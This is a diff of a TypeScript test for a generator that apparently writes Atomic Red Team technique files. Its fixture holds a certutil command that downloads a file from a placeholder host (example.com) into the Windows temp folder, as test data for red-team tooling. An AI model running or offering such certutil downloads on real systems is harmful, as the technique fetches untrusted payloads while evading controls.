@@ -158,9 +158,12 @@ const expectation = {
   prerequisites: ['A listener'],
   inputs: [
     { name: 'url', default: 'http://example.com/', meaning: 'Address' },
-    { name: 'unused', default: 'x', meaning: 'Not in the command' },
+    { name: 'host', default: 'example.com', meaning: 'Only as a part of the longer value' },
+    { name: 'short', default: 'x', meaning: 'Also stands where it means something else' },
   ],
-  commands: [{ executor: 'cmd', platforms: ['windows'], text: 'certutil.exe -urlcache -f {{url}} "%TEMP%\\x"' }],
+  commands: [
+    { executor: 'cmd', platforms: ['windows'], text: 'certutil.exe -urlcache -f http://example.com/ "%TEMP%\\x"' },
+  ],
   cleanup: { command: { executor: 'cmd', platforms: ['windows'], text: 'del "%TEMP%\\x"' } },
 } as unknown as Expectation;
 
@@ -189,7 +192,7 @@ const pack = {
 describe('atomicRedTeamFile', () => {
   const file = parse(atomicRedTeamFile(pack).text);
 
-  it('writes what a runner reads, with the inputs the command uses', () => {
+  it('writes what a runner reads, with an argument for each value that can be told apart', () => {
     expect(file).toMatchObject({ attack_technique: 'T1043', display_name: 'Commonly Used Port' });
     expect(file.atomic_tests).toEqual([
       {
